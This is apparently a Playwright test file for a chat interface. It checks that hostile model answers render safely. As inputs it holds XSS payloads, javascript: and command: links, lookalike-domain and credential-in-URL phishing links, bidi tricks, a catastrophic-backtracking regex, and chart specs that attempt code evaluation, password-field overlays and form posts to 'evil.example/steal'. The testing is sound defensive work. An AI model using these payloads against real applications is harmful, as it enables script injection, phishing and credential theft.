import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answer, chartAnswer } from './answers.ts';
import { ChatStage } from './stage.ts';

let stage: ChatStage;
beforeAll(async () => {
  stage = await ChatStage.open();
});
afterAll(() => stage.close());

describe('what a model says', () => {
  it('lets nothing of hostile model text run, load, hide or lead away', async () => {
    const chat = await stage.chat();
    const hostile = [
      '<script>document.title = "run"</script>',
      '<img src="https://evil.example/a.png" onerror="document.title = \'run\'">',
      '![picture](https://evil.example/b.png)',
      '[click](javascript:document.title="run") [data](data:text/html,x) [command](command:workbench.action.quit)',
      '[good](https://example.com/page)',
      `right\u{202e}tfel and &#x202e;too`,
      '`code\u{2066}`',
      `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(3000)}`,
      '```html\n<b onclick="x()">bold</b>\n```',
    ].join('\n\n');
    chat.transport.answer(answer(hostile));
    await chat.ask('<b>bold</b>');
    await chat.answered();
    const { page } = chat;
    expect(await page.title()).toBe('Chat');
    expect(await page.locator('.log img, .log script, .log b, .log iframe').count()).toBe(0);
    expect(await page.locator('.answer [onclick], .answer [onerror]').count()).toBe(0);
    const links = async () =>
      page.locator('.answer a').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    await expect.poll(links).toEqual(['https://evil.example/b.png', 'https://example.com/page']);
    expect(await page.locator('.answer').textContent()).not.toMatch(/[\u{202a}-\u{202e}\u{2066}-\u{2069}]/u);
    await expect.poll(async () => page.locator('.markdown tbody tr').count()).toBe(500);
    expect(chat.requests.filter((url) => !url.startsWith('https://chat.example/'))).toEqual([]);
    await page.getByRole('link', { name: 'good' }).click();
    await expect.poll(() => chat.asked).toEqual([['openLink', 'https://example.com/page']]);
    expect(page.url()).toBe('https://chat.example/');
    expect(chat.problems).toEqual([]);
    await page.close();
  });

  it('breaks no words in a table: it scrolls', async () => {
    const chat = await stage.chat('light', { width: 260, height: 480 });
    const rows = '| is_online | dimension | boolean | Whether the shop is online |\n'.repeat(3);
    chat.transport.answer(answer(`| Member | Kind | Type | What it is |\n|---|---|---|---|\n${rows}`));
    await chat.ask('Describe');
    await chat.answered();
    const cells = chat.page.locator('.markdown tbody td');
    const lines = async () =>
      cells.evaluateAll((all) =>
        all.slice(0, 3).map((cell) => {
          const range = document.createRange();
          range.selectNodeContents(cell);
          return range.getClientRects().length;
        }),
      );
    await expect.poll(lines).toEqual([1, 1, 1]);
    await expect
      .poll(async () => chat.page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth))
      .toBe(true);
    await chat.picture('table-narrow');
    await chat.page.close();
  });

  it('shows text that is nested beyond reason as it is', async () => {
    const chat = await stage.chat();
    chat.transport.answer(answer(`${'>'.repeat(5000)} deep\n\n<b>`));
    await chat.ask('Go deep');
    await chat.answered();
    await expect.poll(async () => chat.page.locator('.answer').textContent()).toContain('deep');
    expect(chat.problems).toEqual([]);
    await chat.page.close();
  });

  it.each([
    ['lists', (depth: number) => Array.from({ length: depth }, (_, at) => `${'  '.repeat(at)}- ${at}`).join('\n')],
    ['lists on one line', (depth: number) => `${'- '.repeat(depth)}end`],
    ['quotes and lists', (depth: number) => `${'> - '.repeat(depth)}end`],
    ['emphasis', (depth: number) => `${'*a **b '.repeat(depth)}end${'** *'.repeat(depth)}`],
    ['links', (depth: number) => `${'['.repeat(depth)}end${'](https://example.com)'.repeat(depth)}`],
  ])('shows %s that are nested a thousand times, and the answer after it', async (_what, text) => {
    const chat = await stage.chat();
    chat.transport.answer(answer(text(1000)));
    await chat.ask('Go deep');
    await chat.answered();
    await expect
      .poll(async () => chat.page.locator('.answer').textContent())
      .toContain(text(1000).includes('end') ? 'end' : '999');
    expect(chat.problems).toEqual([]);
    chat.transport.answer(answer('Still here'));
    await chat.ask('Next');
    await chat.page.getByText('Still here').waitFor();
    await chat.page.close();
  });

  it('shows a part of a table that has more columns or rows than anybody reads', async () => {
    const chat = await stage.chat();
    const row = (cell: string): string => `|${`${cell}|`.repeat(300)}`;
    const wide = [row('h'), row('---'), ...Array.from({ length: 200 }, () => row('1'))].join('\n');
    chat.transport.answer(answer(wide));
    await chat.ask('Widen');
    await chat.answered();
    await expect.poll(async () => chat.page.locator('.markdown th').count()).toBe(60);
    expect(await chat.page.locator('.markdown td').count()).toBeLessThanOrEqual(8_000);
    await chat.page.getByText('240 more columns are not shown.').waitFor();
    await chat.page.getByText(/\d+ more rows are not shown\./).waitFor();
    await chat.page.close();
  });

  it('leads nowhere else than it says', async () => {
    const chat = await stage.chat();
    const links = [
      '[quit](command:workbench.action.quit)',
      '[open](vscode://evil.extension/run?x)',
      '<vscode:extension/evil>',
      '[passwords](file:///etc/passwd)',
      '[page](data:text/html,<script>1</script>)',
      '[docs][ref]',
      '[login](https://github.com@evil.example/login)',
      '[https://github.com/login](https://evil.example/login)',
      '[docs](https://g\u{430}thub.com/docs)',
      '[fine](https://docs.example/a)',
      '',
      '[ref]: command:workbench.action.quit',
    ];
    chat.transport.answer(answer(links.join('\n\n')));
    await chat.ask('Link');
    await chat.answered();
    const anchors = chat.page.locator('.answer a');
    await expect
      .poll(async () => anchors.evaluateAll((all) => all.map((link) => link.getAttribute('href'))))
      .toEqual(['https://evil.example/login', 'https://xn--gthub-4ve.com/docs', 'https://docs.example/a']);
    const text = async () => chat.page.locator('.answer').textContent();
    await expect.poll(text).toContain('https://github.com/login (evil.example)');
    await expect.poll(text).toContain('docs (xn--gthub-4ve.com)');
    await expect.poll(text).toContain('quit (command:workbench.action.quit)');
    await expect.poll(text).not.toContain('fine (');
    await chat.picture('links-hostile');
    await chat.page.close();
  });

  it('shows hidden characters in names of chips, threads, queued questions and cards', async () => {
    const chat = await stage.chat();
    const name = 'ord\u{200b}ers\u{202e}.yml';
    const shown = 'ord⟨U+200B⟩ers⟨U+202E⟩.yml';
    chat.surface.attach({ id: 'a', label: name, detail: name, text: 'x' });
    const chip = chat.page.getByRole('list', { name: 'Sent with the question' });
    await chip.getByText(shown).waitFor();
    await chip.getByRole('button', { name: `Remove ${shown}` }).waitFor();
    chat.transport.answer(answer(`See \`${name}\`.`));
    const field = chat.page.getByRole('textbox', { name: 'Question for the agent' });
    await field.fill(`Explain ${name}\u{2028}and more`);
    await field.press('Enter');
    await chat.answered();
    await chat.page.locator('.answer code').getByText(shown).waitFor();
    // The title is one line, and hides nothing.
    await chat.page.getByRole('heading', { level: 1, name: `Explain ${shown}`, exact: true }).waitFor();
    const all = await chat.page.evaluate(() => {
      const said = [...document.querySelectorAll('[aria-label], [title]')].flatMap((each) => [
        each.getAttribute('aria-label') ?? '',
        each.getAttribute('title') ?? '',
      ]);
      return [document.body.innerText, ...said].filter((text) => /[\u{200b}\u{202e}]/u.test(text));
    });
    expect(all).toEqual([]);
    await chat.page.close();
  });

  it.each([
    ['loads data', { data: { url: 'https://evil.example/rows.json' }, mark: 'bar', encoding: { x: { field: 'a' } } }],
    [
      'draws remote images',
      { mark: { type: 'image', url: 'https://evil.example/i.png' }, encoding: { x: { field: 'a' } } },
    ],
    [
      'takes the page for a password field',
      {
        mark: 'bar',
        params: [{ name: 'Session expired', bind: { input: 'password', element: 'body', placeholder: 'API key' } }],
        encoding: { x: { field: 'a' } },
      },
    ],
    [
      'sends a form elsewhere',
      {
        mark: 'bar',
        params: [{ name: 'a', bind: { input: 'submit', formaction: 'https://evil.example/steal' } }],
        encoding: { x: { field: 'a' } },
      },
    ],
    [
      'never ends',
      {
        mark: 'point',
        transform: [{ filter: "test(regexp('^(a+)+$'), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab')" }],
        encoding: { x: { field: 'a', type: 'quantitative', bin: { step: 0.000_000_1 } } },
      },
    ],
    [
      'evaluates',
      {
        mark: 'bar',
        transform: [{ calculate: 'constructor.constructor("document.title=1")()', as: 'x' }],
        encoding: { x: { field: 'x' } },
      },
    ],
    [
      'looks rows up elsewhere',
      {
        mark: 'bar',
        transform: [{ lookup: 'a', from: { data: { url: 'https://evil.example/l.json' }, key: 'a', fields: ['b'] } }],
        encoding: { x: { field: 'a' } },
      },
    ],
    [
      'brings data sets and options of its own',
      {
        datasets: { evil: [{ a: 1 }] },
        data: { name: 'evil' },
        usermeta: { embedOptions: { loader: { baseURL: 'https://evil.example/' }, actions: true } },
        mark: 'bar',
        encoding: { x: { field: 'a' } },
      },
    ],
    [
      'draws a map from elsewhere',
      {
        data: { url: 'https://evil.example/world.json', format: { type: 'topojson', feature: 'countries' } },
        mark: 'geoshape',
        projection: { type: 'mercator' },
      },
    ],
    [
      'computes its texts, colours and tooltips',
      {
        title: { text: { expr: "constructor.constructor('document.title=1')()" } },
        config: { signals: [{ name: 's', update: "constructor.constructor('document.title=2')()" }] },
        mark: { type: 'bar', tooltip: { signal: "'<img src=https://evil.example/t.png>'" }, fill: { expr: 'evil()' } },
        encoding: { x: { field: 'a', axis: { labelExpr: "constructor.constructor('document.title=3')()" } } },
      },
    ],
    [
      'takes an image from its rows',
      {
        mark: { type: 'image', width: 20 },
        encoding: { x: { field: 'a' }, url: { value: 'https://evil.example/u.svg' } },
      },
    ],
    [
      'links away',
      {
        mark: { type: 'bar', href: 'javascript:alert(1)' },
        encoding: { x: { field: 'a' }, href: { value: 'javascript:1' } },
      },
    ],
  ])('draws a chart that %s without doing it', async (_what, spec) => {
    const chat = await stage.chat();
    chat.transport.answer(chartAnswer({ columns: { a: 'number' }, rows: [['1'], ['2']], spec }));
    await chat.ask('Draw');
    await chat.answered();
    await chat.page.locator('.chart-place svg, .chart p.hint').first().waitFor();
    expect(await chat.page.title()).toBe('Chat');
    // The grid of the rows places its own cells with styles.
    expect(await chat.page.locator('.chart image, .chart a, .chart [style]:not(.result-grid *)').count()).toBe(0);
    expect(await chat.page.locator('[type=password], [formaction], .log input, .log form').count()).toBe(0);
    await expect
      .poll(async () => chat.page.getByRole('textbox', { name: 'Question for the agent' }).isVisible())
      .toBe(true);
    expect(chat.requests.filter((url) => !url.startsWith('https://chat.example/'))).toEqual([]);
    await chat.page.close();
  });
});
